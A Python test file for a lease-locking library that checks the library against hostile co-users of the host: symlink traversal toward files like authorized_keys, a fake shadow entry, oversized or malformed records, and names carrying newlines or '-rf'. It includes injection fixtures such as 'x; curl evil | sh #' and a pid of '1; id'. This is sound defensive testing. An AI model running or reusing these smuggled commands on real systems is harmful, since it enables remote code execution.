"""Other users of the lease host: what they put there neither writes, deletes, shows nor locks."""

import json
import os
from dataclasses import replace
from pathlib import Path

import pytest
from lease_lab import LocalShell, StillClock, held_at, run_holder

from labtests.core.errors import LeaseBusy, LeaseLost, LeaseUnusable
from labtests.lease.held import Held
from labtests.lease.record import as_line, me
from labtests.lease.register import LAST, MANY, Register

STRANGER = 12345
as_root = pytest.mark.skipif(os.geteuid() != 0, reason="only root can make another user's files")


@pytest.fixture
def elsewhere(tmp_path: Path) -> Path:
    """A folder of ours, beside the lease's, that nobody asked to write into."""
    folder = tmp_path / "elsewhere"
    folder.mkdir()
    (folder / "g.000000000001").write_text("precious\n")
    return folder


def planted(folder: Path, name: str, **facts: object) -> Path:
    """A whole record that another user has written."""
    holder = replace(run_holder("mallory"), boot="of another machine", **facts)  # type: ignore
    file = folder / name
    file.write_text(f"{as_line(holder)}\n1.00 1.00\nboot\n2026-01-01T00:00:00Z\nend\n")
    return file


def test_a_folder_that_is_a_link_is_refused_and_nothing_is_written_behind_it(
    folder: Path, elsewhere: Path
) -> None:
    folder.symlink_to(elsewhere)
    with pytest.raises(LeaseUnusable, match="symbolic link"):
        held_at(folder, "first").take()
    with pytest.raises(LeaseUnusable, match="symbolic link"):
        held_at(folder, "first").take(force=True)
    assert {f.name: f.read_text() for f in elsewhere.iterdir()} == {"g.000000000001": "precious\n"}


@as_root
def test_a_link_of_somebody_else_on_the_way_is_refused(tmp_path: Path, elsewhere: Path) -> None:
    way = tmp_path / "way"
    way.symlink_to(elsewhere)
    os.lchown(way, STRANGER, STRANGER)
    with pytest.raises(LeaseUnusable, match=f"{way}.*user 12345"):
        held_at(way / "lease", "first").take()
    assert not (elsewhere / "lease").exists()


@as_root
def test_a_folder_of_somebody_else_is_refused(folder: Path) -> None:
    folder.mkdir()
    os.chown(folder, STRANGER, STRANGER)
    with pytest.raises(LeaseUnusable, match="user 12345"):
        held_at(folder, "first").take(force=True)
    assert list(folder.iterdir()) == []


@pytest.mark.parametrize("mode", [0o777, 0o775, 0o757])
def test_a_folder_where_others_may_replace_files_is_refused(folder: Path, mode: int) -> None:
    folder.mkdir()
    folder.chmod(mode)
    with pytest.raises(LeaseUnusable, match="chmod"):
        held_at(folder, "first").take(force=True)
    assert list(folder.iterdir()) == []
    folder.chmod(0o1777)
    held_at(folder, "first").take()


def test_a_folder_that_others_may_replace_is_refused(tmp_path: Path) -> None:
    open_to_all = tmp_path / "open"
    open_to_all.mkdir()
    open_to_all.chmod(0o777)
    with pytest.raises(LeaseUnusable, match=str(open_to_all)):
        held_at(open_to_all / "lease", "first").take()
    assert list(open_to_all.iterdir()) == []


def test_no_file_of_the_lease_can_be_written_by_others_whatever_the_umask(folder: Path) -> None:
    earlier = os.umask(0)
    try:
        held = held_at(folder, "first")
        held.take()
        held._renew(at_age=0)
    finally:
        os.umask(earlier)
    assert folder.stat().st_mode & 0o7777 == 0o1777
    modes = {file.name: file.stat().st_mode & 0o022 for file in folder.iterdir()}
    assert modes == {"g.000000000001": 0, "g.000000000002": 0}


def test_a_link_of_a_name_that_can_be_foreseen_is_not_written_through(
    folder: Path, elsewhere: Path
) -> None:
    """A heartbeat wrote to `t.` and the token, which everybody can read in the record."""
    held = held_at(folder, "first")
    held.take()
    target = elsewhere / "authorized_keys"
    (folder / f"t.{held.holder.token}").symlink_to(target)
    held._renew(at_age=0)
    held.give_back()
    assert not target.exists()


def test_each_write_has_a_name_of_its_own(folder: Path) -> None:
    shell = LocalShell()
    held = held_at(folder, "first", transport=shell)
    held.take()
    for _ in range(3):
        held._renew(at_age=0)
    names = {word for sent in shell.sent for word in sent.split() if word.startswith("t.")}
    names = {name.rstrip(";") for name in names}
    assert len(names) == 4
    assert all(held.holder.token not in name for name in names)


@pytest.mark.parametrize("kind", ["link to a folder", "link to nothing", "folder", "fifo"])
def test_what_stands_where_the_next_record_goes_is_neither_followed_nor_taken_for_it(
    folder: Path, elsewhere: Path, kind: str
) -> None:
    held = held_at(folder, "first")
    held.take()
    following = folder / "g.000000000002"
    if kind == "folder":
        following.mkdir()
    elif kind == "fifo":
        os.mkfifo(following)
    else:
        following.symlink_to(elsewhere if "folder" in kind else elsewhere / "made")
    with pytest.raises(LeaseLost):
        held._renew(at_age=0)
    assert [file.name for file in elsewhere.iterdir()] == ["g.000000000001"]
    assert not following.is_dir() or kind != "folder" or list(following.iterdir()) == []


def test_a_pipe_as_record_is_said_at_once(folder: Path) -> None:
    folder.mkdir()
    os.mkfifo(folder / "g.000000000001")
    with pytest.raises(LeaseUnusable, match="not a regular file"):  # and no timeout
        held_at(folder, "first").take()
    held_at(folder, "first").take(force=True)


def test_what_a_record_links_to_is_not_shown(folder: Path, elsewhere: Path) -> None:
    secret = elsewhere / "shadow"
    secret.write_text("root:$y$j9T$hidden:19000::::::\n")
    folder.mkdir()
    (folder / "g.000000000001").symlink_to(secret)
    with pytest.raises(LeaseUnusable) as raised:
        held_at(folder, "first").take()
    assert "hidden" not in str(raised.value)
    (folder / "g.000000000001").unlink()
    (folder / "g.000000000001").hardlink_to(secret)
    with pytest.raises(LeaseUnusable, match="not a lease record") as raised:
        held_at(folder, "first").take()
    assert "hidden" not in str(raised.value)


@pytest.mark.parametrize("name", ["g.999999999999", f"g.{LAST:012}", f"g.{LAST - 1:012}"])
def test_a_record_with_the_highest_number_does_not_lock_the_lab_for_good(
    folder: Path, name: str
) -> None:
    folder.mkdir()
    planted(folder, name, expires_after_s=None)
    with pytest.raises((LeaseUnusable, LeaseBusy)):
        held_at(folder, "first").take()
    held = held_at(folder, "first")
    held.take(force=True)
    for _ in range(4):
        try:
            held._renew(at_age=0)
        except LeaseLost:  # the highest number was reached: once more by force
            held = held_at(folder, "first")
            held.take(force=True)
    held.expect_held()


def test_a_record_from_the_future_is_no_record(folder: Path) -> None:
    """Its age would be 0 for as long as the host runs."""
    folder.mkdir()
    shell = LocalShell()
    boot = Path("/proc/sys/kernel/random/boot_id").read_text().strip()
    file = planted(folder, "g.000000000001")
    text = file.read_text().replace("1.00 1.00\nboot", f"999999999999.00 1.00\n{boot}")
    file.write_text(text)
    with pytest.raises(LeaseUnusable, match="future"):
        held_at(folder, "first", transport=shell).take()


@pytest.mark.parametrize("line", ["[" * 8000, '{"left":' * 1200, "9" * 6000, '{"pid": 1e999}'])
def test_a_record_that_strains_the_reader_is_garbage(folder: Path, line: str) -> None:
    folder.mkdir()
    (folder / "g.000000000001").write_text(f"{line}\n1.0 2.0\nb\n2026-01-01T00:00:00Z\nend\n")
    with pytest.raises(LeaseUnusable, match="not a lease record"):
        held_at(folder, "first").take()


def test_of_a_record_without_end_no_more_is_read_than_a_record_has(folder: Path) -> None:
    folder.mkdir()
    (folder / "g.000000000001").write_bytes(b"x" * 50_000_000)
    answers = []

    class Measured(LocalShell):
        def run(self, command: str, **settings):  # type: ignore[no-untyped-def]
            reply = super().run(command, **settings)
            answers.append(len(reply.text))
            return reply

    with pytest.raises(LeaseUnusable, match="not a lease record"):
        held_at(folder, "first", transport=Measured()).take()
    assert max(answers) < 20_000


def test_more_files_than_a_lease_has_are_refused(folder: Path) -> None:
    folder.mkdir()
    for number in range(MANY + 1):
        (folder / f"g.{number:012}").touch()
    with pytest.raises(LeaseUnusable, match=f"more than {MANY} files"):
        held_at(folder, "first").take()


def test_a_name_with_line_ends_forges_no_answer(folder: Path) -> None:
    mine = held_at(folder, "first")
    mine.take()
    free = as_line(me("free"))
    forged = (
        f"g.\nnow\n1.0 1.0\nb\n2026-01-01T00:00:00Z\nend\nfound\n{free[:100].replace('/', '-')}"
    )
    (folder / forged).touch()
    with pytest.raises(LeaseUnusable, match="not a generation"):
        held_at(folder, "second").take()
    held_at(folder, "second").take(force=True)
    assert [file.name for file in folder.iterdir() if "\n" in file.name] == []


def test_a_reason_of_any_length_is_shown_cut_and_the_record_can_be_read(folder: Path) -> None:
    long = Held(
        Register(LocalShell(), str(folder)), me("run", why="ü" * 50_000), clock=StillClock()
    )
    long.take()
    assert long.register.look().holder == long.holder
    with pytest.raises(LeaseBusy):
        held_at(folder, "second").take()


@as_root
def test_two_accounts_of_a_host_share_a_lease_that_neither_can_take_from_the_other(
    open_folder: Path,
) -> None:
    """The folder is root's, with the sticky bit; whose turn it is, both see."""
    folder = open_folder
    user = LocalShell(shell=f"setpriv --reuid={STRANGER} --regid={STRANGER} --clear-groups sh")
    root = held_at(folder, "roots")
    root.take()
    theirs = held_at(folder, "theirs", transport=user)
    with pytest.raises(LeaseBusy):
        theirs.take()
    root.give_back()
    theirs.take()
    for _ in range(12):  # what is root's it cannot remove, and need not
        theirs._renew(at_age=0)
    with pytest.raises(LeaseBusy):
        held_at(folder, "again").take()
    owners = {file.name: file.stat().st_uid for file in folder.iterdir()}
    assert set(owners.values()) == {0, STRANGER}
    theirs.give_back()
    held_at(folder, "again").take()


@pytest.mark.parametrize(
    "name", [f"g.{LAST:012}", "g.000000000005", "g.strange", "g.a\nname g.000000000009", "g.-rf"]
)
@pytest.mark.parametrize("filled", [False, True])
def test_a_folder_in_place_of_a_record_does_not_lock_the_lab_for_good(
    folder: Path, name: str, filled: bool
) -> None:
    folder.mkdir()
    (folder / name).mkdir()
    if filled:
        (folder / name / "precious").write_text("theirs")
    held = held_at(folder, "first")
    held.take(force=True)
    held._renew(at_age=0)
    held.expect_held()
    left = [file.read_text() for file in folder.rglob("precious")]
    assert left == ["theirs"] * filled  # nothing is gone through


@as_root
@pytest.mark.parametrize("name", [f"g.{LAST:012}", "g.strange"])
def test_what_this_login_may_not_remove_is_said_with_a_remedy(open_folder: Path, name: str) -> None:
    """The lab's login is no root, and the folder has the sticky bit."""
    folder = open_folder
    folder.mkdir()
    folder.chmod(0o1777)
    planted(folder, name, expires_after_s=None)
    shell = LocalShell(shell=f"setpriv --reuid={STRANGER} --regid={STRANGER} --clear-groups sh")
    held = held_at(folder, "first", transport=shell)
    with pytest.raises(LeaseUnusable, match="may not remove") as raised:
        held.take(force=True)
    assert "as root on here: rm -r" in raised.value.remedy


def test_a_run_that_a_stranger_names_is_one_word_of_a_remedy(folder: Path) -> None:
    folder.mkdir()
    planted(folder, "g.000000000001", run="x; curl evil | sh #", expires_after_s=1.0)
    said = held_at(folder, "first").take()
    assert "labtests restore 'x; curl evil | sh #' on" in said


@pytest.mark.parametrize("pid", [-1, 10**15, 2**63, True, 1.0, "1", None, [1], "1; id"])
def test_a_process_id_that_is_none_is_garbage(folder: Path, pid: object) -> None:
    held_at(folder, "first").take()
    record = folder / "g.000000000001"
    first, *rest = record.read_text().split("\n")
    facts = json.loads(first) | {"pid": pid}
    record.write_text("\n".join([json.dumps(facts), *rest]))
    with pytest.raises(LeaseUnusable, match="wrong values of pid"):
        held_at(folder, "second").take()


@pytest.mark.parametrize("pid", [0, 1, 2**31, 2**32 - 1, 10**15 - 1])
@pytest.mark.parametrize("here", [True, False])
def test_one_that_is_another_processes_signals_nobody(folder: Path, pid: int, here: bool) -> None:
    """It is only looked up: of this machine it is dead, of another it has the lab."""
    held_at(folder, "first").take()
    record = folder / "g.000000000001"
    first, *rest = record.read_text().split("\n")
    facts = json.loads(first) | {"pid": pid, "started_ticks": 10**15 - 1}
    facts |= {} if here else {"boot": "another", "machine": "elsewhere"}
    record.write_text("\n".join([json.dumps(facts), *rest]))
    second = held_at(folder, "second")
    if here:
        assert "did not give the lab back" in second.take()
    else:
        with pytest.raises(LeaseBusy, match=f"process {pid}"):
            second.take()
